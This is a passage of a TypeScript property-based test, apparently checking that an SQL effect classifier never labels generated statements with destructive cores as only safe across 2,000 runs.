    return { sql: wrapped, effect: core.effect };
  });

describe("property: destructive cores never classify as only safe", () => {
  it("holds for 2,000 generated statements", () => {
    fc.assert(
      fc.property(statementArb, ({ sql, effect }) => {
        const effects = classify(sql);
        const found = effects.map((e) => e.effect);
        // The generator only builds valid SQL: a pass must come from classification, not from a parse error.
        expect(effects.map((e) => e.rule)).not.toContain("opaque: parse error");
        expect(found.some((e) => !isSafe(e))).toBe(true);
        expect(found.includes(effect) || found.includes("opaque")).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});
